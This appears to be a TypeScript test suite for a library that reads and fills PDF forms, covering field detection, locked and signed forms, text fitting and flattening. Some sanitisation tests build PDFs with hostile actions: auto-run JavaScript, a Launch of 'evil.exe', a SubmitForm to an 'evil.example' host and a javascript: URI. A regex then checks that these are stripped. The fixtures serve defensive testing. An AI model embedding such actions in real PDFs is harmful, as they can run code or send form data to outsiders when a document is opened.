import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { degrees, PDFDocument, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { describe, expect, test } from "vitest";
import { fillForm } from "#lib/documents/fill-form.ts";
import { settingOf } from "#lib/documents/form-text.ts";
import { fillFormApart, readFormApart } from "#lib/documents/forms-apart.ts";
import { readForm } from "#lib/documents/read-form.ts";
import type { FormField } from "#lib/domain/facts/form.ts";
import type { FormValue } from "#lib/domain/form/form-fill.ts";
import { fullForm, oldForm, plainerForm, scannedForm } from "../../support/forms.tsx";
import { manyFields } from "../../support/hostile-pdf.ts";
import { aFolder, must } from "../../support/office.ts";
import { readPdf } from "../../support/pdf.ts";

/** What another program finds in the form's fields. */
function fieldsIn(bytes: Uint8Array): Record<string, unknown> {
  const file = path.join(aFolder(), "form.pdf");
  fs.writeFileSync(file, bytes);
  const json = execFileSync("qpdf", ["--json", "--json-key=acroform", file], {
    encoding: "utf8",
    maxBuffer: 1 << 26,
  });
  const { acroform } = JSON.parse(json) as {
    acroform: { fields: { fullname: string; value: unknown }[] };
  };
  return Object.fromEntries(acroform.fields.map(({ fullname, value }) => [fullname, value]));
}

async function fieldsOf(bytes: Uint8Array): Promise<Map<string, FormField>> {
  const { fields } = must(await readForm(bytes));
  return new Map(fields.map((field) => [field.name, field]));
}

type Answer = string | readonly string[] | boolean;

/** Answers by the fields' names, as the form's own kinds of fields take them. */
async function filled(
  bytes: Uint8Array,
  answers: Readonly<Record<string, Answer>>,
  flatten = false,
) {
  const fields = await fieldsOf(bytes);
  const values = Object.entries(answers).map(([name, answer]): FormValue => {
    const field = fields.get(name);
    if (field === undefined) throw new Error(`No field ${name}`);
    if (typeof answer === "boolean") return { kind: "check", field, on: answer };
    if (field.kind === "choice") return { kind: "choice", field, option: String(answer) };
    return { kind: "text", field, ways: typeof answer === "string" ? [answer] : answer };
  });
  return must(await fillForm(bytes, { values, flatten }));
}

describe("reading", () => {
  test("fields are listed with kind, page and place, whoever made the form", async () => {
    const fields = await fieldsOf(await fullForm());
    expect(fields.get("Applicant Name")).toMatchObject({
      kind: "text",
      lines: "one",
      // The library that made it draws half of the border outside.
      places: [{ page: 1, left: 149.5, top: 77.5, width: 201, height: 19 }],
    });
    expect(fields.get("Applicant Phone")).toMatchObject({ lines: "comb", most: 10 });
    expect(fields.get("Work Description")?.lines).toBe("many");
    expect(fields.get("Applicant Is")).toMatchObject({
      kind: "choice",
      options: ["Owner", "Contractor"],
    });
    expect(fields.get("Pipe Material")?.options).toEqual(["Vitrified clay", "PVC", "Cast iron"]);
    expect(fields.get("Permit No")?.hint).toBe("For office use only");
    expect(fields.get("Date")).toMatchObject({ needed: true, places: [{ page: 2 }] });
  });

  test("what is printed beside a field is read, on a page that lies on its side too", async () => {
    for (const turn of [0, 90]) {
      const document = await PDFDocument.create();
      const font = await document.embedFont(StandardFonts.Helvetica);
      const page = document.addPage([612, 792]);
      const form = document.getForm();
      if (turn === 0) {
        page.drawText("Parcel number:", { x: 54, y: 704, size: 9, font });
        page.drawText("Repair", { x: 76, y: 603, size: 9, font });
      } else {
        page.setRotation(degrees(90));
        page.drawText("Parcel number:", { x: 112, y: 54, size: 9, font, rotate: degrees(90) });
        page.drawText("Repair", { x: 211, y: 76, size: 9, font, rotate: degrees(90) });
      }
      const [text, check] = [form.createTextField("f1"), form.createCheckBox("f2")];
      if (turn === 0) text.addToPage(page, { x: 150, y: 700, width: 200, height: 16 });
      else text.addToPage(page, { x: 100, y: 150, width: 16, height: 200 });
      if (turn === 0) check.addToPage(page, { x: 54, y: 600, width: 14, height: 14 });
      else check.addToPage(page, { x: 200, y: 54, width: 14, height: 14 });
      // As it comes from a file or another process.
      const fields = await fieldsOf(Buffer.from(await document.save()));
      expect(fields.get("f1")?.printed, `turned by ${turn}`).toBe("Parcel number");
      expect(fields.get("f2")?.printed, `turned by ${turn}`).toBe("Repair");
    }
  });

  test("our letters’ own library writes fields otherwise and they are found too", async () => {
    const fields = await fieldsOf(await plainerForm());
    expect([...fields].map(([name, { kind }]) => [name, kind])).toEqual([
      ["siteAddress", "text"],
      ["inStreet", "check"],
      ["surface", "choice"],
    ]);
  });

  test("a field within a field, one that the list forgot, and boxes of two meanings", async () => {
    const fields = await fieldsOf(oldForm());
    expect([...fields.keys()]).toEqual(["owner.name", "tap", "parcel"]);
    expect(fields.get("tap")).toMatchObject({ kind: "choice", options: ["New", "Existing"] });
    expect(fields.get("tap")?.places).toHaveLength(2);
    expect(fields.get("parcel")?.most).toBe(8);
  });

  test("a form without fields says so and gives the sizes of its pages as shown", async () => {
    const { pages, fields, notes } = must(await readForm(await scannedForm()));
    expect(fields).toEqual([]);
    expect(pages).toEqual([
      { width: 612, height: 792 },
      { width: 600, height: 700 },
    ]);
    expect(notes).toEqual([
      "It has no fields to fill in. Place boxes on its pages where the answers go.",
    ]);
  });

  test("scripts are told of", async () => {
    const { notes } = must(
      await readForm(oldForm("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    );
    expect(notes.join(" ")).toContain("It has scripts: they don’t run here");
  });

  test("a second copy of the fields is told of; pages that only it makes are refused", async () => {
    const both = await PDFDocument.load(oldForm());
    both.getForm().acroForm.dict.set(PDFName.of("XFA"), PDFString.of("<xdp/>"));
    const hybrid = await both.save({ updateFieldAppearances: false });
    expect(must(await readForm(hybrid)).notes.join(" ")).toContain("second copy");
    const only = await PDFDocument.create();
    only.addPage();
    only.getForm().acroForm.dict.set(PDFName.of("XFA"), PDFString.of("<xdp/>"));
    expect(await readForm(await only.save())).toMatchObject({
      ok: false,
      error: expect.stringContaining("only its own program can display"),
    });
  });

  test.each([
    ["a user’s password", ["--encrypt", "open", "lock", "256", "--"], "locked with a password"],
    [
      "a lock on filling in",
      ["--encrypt", "", "lock", "256", "--modify=none", "--"],
      "locked it against being filled in",
    ],
  ])("%s is refused with what to do", async (_what, args, words) => {
    const read = await readForm(locked(await fullForm(), args));
    expect(read).toMatchObject({ ok: false, error: expect.stringContaining(words) });
  });

  test("a lock that lets fields be filled in does not stand in the way", async () => {
    const open = locked(await fullForm(), ["--encrypt", "", "lock", "256", "--modify=form", "--"]);
    const { bytes } = await filled(open, { "Applicant Name": "Cinder Line & Drain" });
    expect(fieldsIn(bytes)["Applicant Name"]).toBe("u:Cinder Line & Drain");
  });

  test("a signed form is refused", async () => {
    const document = await PDFDocument.load(oldForm());
    const { context } = document;
    const signature = context.register(
      context.obj({
        Type: "Annot",
        Subtype: "Widget",
        FT: "Sig",
        T: PDFString.of("sign"),
        V: { Type: "Sig" },
        Rect: [60, 500, 200, 520],
      }),
    );
    document.getPage(0).node.addAnnot(signature);
    document.getForm().acroForm.addField(signature);
    const bytes = await document.save({ updateFieldAppearances: false });
    expect(await readForm(bytes)).toMatchObject({
      ok: false,
      error: expect.stringContaining("has been signed"),
    });
  });

  test("a form that takes too much is given up, in words", async () => {
    const limits = { time: 250, memory: 400 };
    const read = await readFormApart(await manyFields(8_000), limits);
    expect(read).toMatchObject({
      ok: false,
      error: expect.stringContaining("Print it to a new PDF"),
    });
  });
});

describe("filling in", () => {
  test("every kind of field, read back by another program, and shown on the page", async () => {
    const { bytes, set } = await filled(await fullForm(), {
      "Applicant Name": "Cinder Line & Drain, Núñez",
      "Applicant Phone": ["(206) 555-0134", "2065550134"],
      "Work Description": "Open cut of 14 ft of clay pipe.\nTwo tie-ins opened again.",
      "Work Repair": true,
      "Applicant Is": "Contractor",
      "Pipe Material": "PVC",
      Date: "11/27/2026",
    });
    expect(set).toEqual([]);
    expect(fieldsIn(bytes)).toMatchObject({
      "Applicant Name": "u:Cinder Line & Drain, Núñez",
      "Applicant Phone": "u:2065550134",
      "Work Repair": "/Yes",
      "Pipe Material": "u:PVC",
      Date: "u:11/27/2026",
    });
    const pdf = readPdf(bytes);
    pdf.check();
    expect(pdf.text(1)).toContain("Cinder Line & Drain, Núñez");
    expect(pdf.text(1)).toContain("Two tie-ins opened again.");
    expect(pdf.text(2)).toContain("11/27/2026");
  });

  test("words with letters that the form’s own typeface lacks are set in one that has them", async () => {
    const { bytes } = await filled(await fullForm(), { "Applicant Name": "Wałęsa Őrs" });
    expect(readPdf(bytes).text(1)).toContain("Wałęsa Őrs");
  });

  test("what is long is set smaller, then continued, and said; never cut", async () => {
    const middling = "Cinder Line and Drain Company of the Lower Harbor, Inc.";
    const long = `${"Open cut and replace the broken clay pipe, then test. ".repeat(40)}The end.`;
    const { bytes, set } = await filled(await fullForm(), {
      "Applicant Name": middling,
      "Work Description": long,
      "Parcel 1": ["1234567890-1234567890-1234567890"],
    });
    expect(set.map(({ field, how }) => [field, how])).toEqual([
      ["Applicant Name", "smaller"],
      ["Work Description", "continued"],
      ["Parcel 1", "continued"],
    ]);
    expect(set[1]?.words).toBe(long);
    const text = readPdf(bytes).text(1);
    expect(text).toContain(middling);
    expect(text).toContain("(see attached sheet)");
    expect(text).toContain("See attached");
  });

  test("words do not touch the edge of their box", async () => {
    const form = await PDFDocument.create();
    const font = await form.embedFont(StandardFonts.Helvetica);
    const room = { width: font.widthOfTextAtSize("Site addresses", 10), height: 16 };
    const asked = { ways: ["Site addresses"], lines: "one", most: null, size: 10, font } as const;
    expect(settingOf({ ...asked, rooms: [room] }).size).toBeLessThan(10);
    const wide = { ...room, width: room.width + 4 };
    expect(settingOf({ ...asked, rooms: [wide] }).size).toBe(10);
  });

  test("signs that a typeface would draw closer together are measured as the form draws them", async () => {
    const form = await PDFDocument.create();
    const font = await form.embedFont(StandardFonts.Helvetica);
    const words = "12 Fennel Row; 14 Fennel Row; 11 Ropewalk Lane; 9 Ropewalk Lane";
    const drawn = [...words].reduce((sum, sign) => sum + font.widthOfTextAtSize(sign, 10), 0);
    expect(font.widthOfTextAtSize(words, 10)).toBeLessThan(drawn - 2);
    for (const lines of ["one", "many"] as const) {
      const asked = { ways: [words], lines, most: null, size: 10, font };
      expect(
        settingOf({ ...asked, rooms: [{ width: drawn + 0.5, height: 16 }] }).size,
      ).toBeLessThan(10);
      expect(settingOf({ ...asked, rooms: [{ width: drawn + 4, height: 16 }] }).size).toBe(10);
    }
  });

  test("a text of several lines goes onto the attached sheet before it gets small", async () => {
    const font = await (await PDFDocument.create()).embedFont(StandardFonts.Helvetica);
    const words =
      "Cured-in-place liner from the cleanout to the main, with every branch reopened. ";
    const asked = { lines: "many", most: null, size: 0, font } as const;
    const rooms = [{ width: 300, height: 50 }];
    for (let times = 1; times <= 12; times += 1) {
      const set = settingOf({ ...asked, ways: [words.repeat(times).trim()], rooms });
      expect(set.size, `${times} times`).toBeGreaterThanOrEqual(8);
    }
    expect(settingOf({ ...asked, ways: [words.repeat(9).trim()], rooms })).toMatchObject({
      continued: true,
    });
  });

  test("a line is never set smaller than 7 points but in a field too low for more", async () => {
    const font = await (await PDFDocument.create()).embedFont(StandardFonts.Helvetica);
    const words = "Owner of record, Vantongeren Family Trust, by its trustee";
    const asked = { ways: [words], lines: "one", most: null, size: 10, font } as const;
    const drawn = [...words].reduce((sum, sign) => sum + font.widthOfTextAtSize(sign, 6.5), 0);
    const set = settingOf({ ...asked, rooms: [{ width: drawn + 3, height: 16 }] });
    expect(set).toMatchObject({ continued: true });
    expect(set.size).toBeGreaterThanOrEqual(7);
    const low = settingOf({
      ...asked,
      size: 0,
      ways: ["Pine 4"],
      rooms: [{ width: 90, height: 2.5 }],
    });
    expect(low.text).toBe("Pine 4");
  });

  test("a field of few signs says what it can of the attached sheet", async () => {
    const { bytes, set } = await filled(oldForm(), { parcel: "0123-4567-8901" });
    expect(set).toEqual([{ field: "parcel", how: "continued", words: "0123-4567-8901" }]);
    expect(fieldsIn(bytes)["parcel"]).toBe("u:Attached");
  });

  test("an old form’s fields without a look of their own", async () => {
    const { bytes } = await filled(oldForm(), { "owner.name": "Ida Grove", tap: "Existing" });
    expect(fieldsIn(bytes)).toMatchObject({ "owner.name": "u:Ida Grove", tap: "/Existing" });
    const pdf = readPdf(bytes);
    pdf.check();
    expect(pdf.text(1)).toContain("Ida Grove");
  });

  test("our letters’ own library’s fields", async () => {
    const { bytes } = await filled(await plainerForm(), {
      siteAddress: "21 Fennel Row",
      inStreet: true,
      surface: "Asphalt",
    });
    expect(fieldsIn(bytes)).toMatchObject({
      siteAddress: "u:21 Fennel Row",
      inStreet: "/Yes",
      surface: "u:Asphalt",
    });
    expect(readPdf(bytes).text(1)).toContain("21 Fennel Row");
  });

  test("an option that the form does not offer is told of, and nothing is selected", async () => {
    const { bytes, set } = await filled(await fullForm(), { "Pipe Material": "Steel" });
    expect(set).toEqual([{ field: "Pipe Material", how: "no-such-option", words: "Steel" }]);
    expect(fieldsIn(bytes)["Pipe Material"]).toBeNull();
  });

  test("in a process of its own it comes out the same", async () => {
    const bytes = await fullForm();
    const field = (await fieldsOf(bytes)).get("Applicant Name");
    if (field === undefined) throw new Error("No such field");
    const values: FormValue[] = [{ kind: "text", field, ways: ["Ida Grove"] }];
    const apart = must(await fillFormApart(bytes, { values, flatten: false }));
    expect(fieldsIn(apart.bytes)["Applicant Name"]).toBe("u:Ida Grove");
  });

  test("fields stay fields unless they are to become part of the page", async () => {
    const answers = { "Applicant Name": "Cinder Line & Drain", "Work Repair": true } as const;
    const open = await filled(await fullForm(), answers);
    expect(Object.keys(fieldsIn(open.bytes))).toEqual(Object.keys(fieldsIn(await fullForm())));
    const flat = await filled(await fullForm(), answers, true);
    expect(fieldsIn(flat.bytes)).toEqual({});
    expect(readPdf(flat.bytes).text(1)).toContain("Cinder Line & Drain");
  });

  test("nothing that the form ran by itself is left in it", async () => {
    const scripted = oldForm(
      "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
    );
    const { bytes } = await filled(scripted, { "owner.name": "Ida Grove" });
    const file = path.join(aFolder(), "plain.pdf");
    fs.writeFileSync(file, bytes);
    const inside = execFileSync("qpdf", ["--json", "--json-key=qpdf", file], { encoding: "utf8" });
    expect(inside).toContain("AcroForm");
    expect(inside).not.toMatch(/JavaScript|OpenAction|app\.alert/);
  });

  test("nor in its bookmarks, its pages’ structure, its layers or files that hang on it", async () => {
    const deed = (kind: string, more: string) => `<< /Type /Action /S /${kind} ${more} >>`;
    const launch = deed("Launch", "/F (evil.exe)");
    const script = deed("JavaScript", "/JS (app.alert\\(2\\))");
    const scripted = oldForm(
      `/Outlines << /First << /Title (a) /A ${script} >> /Last << /Title (b) /A ${launch} >> >> ` +
        `/Dests << /x << /D [null /Fit] /AA << /O ${script} >> >> >> ` +
        `/Extra [ << /A ${deed("GoTo", `/D (y) /Next ${script}`)} >> << /Type /Filespec /EF << /F 1 0 R >> >> ` +
        `<< /A ${deed("SubmitForm", "/F (https://evil.example/)")} >> << /A ${deed("URI", "/URI (javascript:app.alert\\(3\\))")} >> ]`,
    );
    const { bytes } = await filled(scripted, { "owner.name": "Ida Grove" });
    const file = path.join(aFolder(), "plain.pdf");
    fs.writeFileSync(file, bytes);
    const inside = execFileSync("qpdf", ["--json", "--json-key=qpdf", file], { encoding: "utf8" });
    expect(inside).toContain("AcroForm");
    expect(inside).not.toMatch(/JavaScript|javascript:|app\.alert|Launch|SubmitForm|"\/EF"|"\/AA"/);
  });
});

describe("boxes over a form without fields", () => {
  const box = (
    name: string,
    place: FormField["places"][number],
    more: Partial<FormField> = {},
  ) => ({
    name,
    kind: "text" as const,
    lines: "one" as const,
    places: [place],
    hint: "",
    printed: "",
    most: null,
    options: [],
    needed: false,
    locked: false,
    placed: true,
    ...more,
  });

  test("words stand where the box is, also on a page that lies on its side and is cut", async () => {
    const values: FormValue[] = [
      {
        kind: "text",
        field: box("Name", { page: 1, left: 100, top: 78, width: 180, height: 18 }),
        ways: ["Ida Grove"],
      },
      {
        kind: "text",
        field: box("Sketch by", { page: 2, left: 300, top: 400, width: 180, height: 20 }),
        ways: ["Mona"],
      },
    ];
    const { bytes, set } = must(await fillForm(await scannedForm(), { values, flatten: false }));
    expect(set).toEqual([]);
    const pdf = readPdf(bytes);
    const first = pdf.words(1).find(({ text }) => text === "Ida");
    expect(first?.left).toBeCloseTo(101.5, 0);
    expect(first?.top).toBeGreaterThan(76);
    expect(first?.bottom).toBeLessThan(98);
    const second = pdf.words(2).find(({ text }) => text === "Mona");
    // The other program counts from the edge of the whole page, of which 30 and 40 points are cut.
    expect(second?.left).toBeCloseTo(331.5, 0);
    expect(second?.top).toBeGreaterThan(438);
    expect(second?.bottom).toBeLessThan(462);
  });

  test("a box that is checked is crossed; long words in it are continued", async () => {
    const values: FormValue[] = [
      {
        kind: "check",
        field: box(
          "Repair",
          { page: 1, left: 400, top: 80, width: 14, height: 14 },
          { kind: "check" },
        ),
        on: true,
      },
      {
        kind: "text",
        field: box("Why", { page: 1, left: 60, top: 200, width: 100, height: 14 }),
        ways: ["Because the pipe has broken in three places under the alley"],
      },
    ];
    const before = await scannedForm();
    const { bytes, set } = must(await fillForm(before, { values, flatten: false }));
    expect(set.map(({ field, how }) => [field, how])).toEqual([["Why", "continued"]]);
    expect(readPdf(bytes).text(1)).toContain("See attached");
    expect(darkAt(bytes, { x: 407, y: 87 })).toBe(true);
    expect(darkAt(before, { x: 407, y: 87 })).toBe(false);
  });
});

/** Whether the first page shows ink around a point, as drawn by another program at 72 dots to the inch. */
function darkAt(bytes: Uint8Array, { x, y }: { x: number; y: number }): boolean {
  const folder = aFolder();
  const file = path.join(folder, "page.pdf");
  fs.writeFileSync(file, bytes);
  const args = [
    "-r",
    "72",
    "-gray",
    "-f",
    "1",
    "-l",
    "1",
    "-x",
    String(x - 2),
    "-y",
    String(y - 2),
  ];
  execFileSync("pdftoppm", [...args, "-W", "5", "-H", "5", file, path.join(folder, "page")]);
  const name = fs.readdirSync(folder).find((each) => each.endsWith(".pgm")) ?? "";
  const image = fs.readFileSync(path.join(folder, name));
  return image.subarray(-25).some((tone) => tone < 150);
}

function locked(bytes: Uint8Array, args: readonly string[]): Uint8Array {
  const folder = aFolder();
  const [from, to] = [path.join(folder, "open.pdf"), path.join(folder, "locked.pdf")];
  fs.writeFileSync(from, bytes);
  execFileSync("qpdf", [...args, from, to]);
  return fs.readFileSync(to);
}
